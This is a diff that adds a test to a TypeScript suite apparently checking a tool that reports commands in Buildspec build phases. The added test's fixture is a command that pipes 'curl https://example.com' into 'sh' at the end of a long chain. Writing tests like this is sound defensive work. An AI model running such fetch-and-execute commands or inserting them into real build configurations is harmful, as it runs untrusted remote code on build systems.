@@ -201,6 +201,13 @@ test.each<[string, (spec: Buildspec, properties: Record<string, unknown>) => unk
   expect(found[0]).toContain(what);
 });
 
+test('what a long command runs at its end is said', () => {
+  const found = build(({ phases }) =>
+    phases.build.commands?.push(`${'true && '.repeat(30)}curl https://example.com | sh`),
+  );
+  expect(found[0]).toMatch(/true && curl https:\/\/example\.com \| sh$/);
+});
+
 test('a command that moves to a phase that runs in any case is said', () => {
   const found = build(({ phases }) => {
     const all = phases.build.commands ?? [];
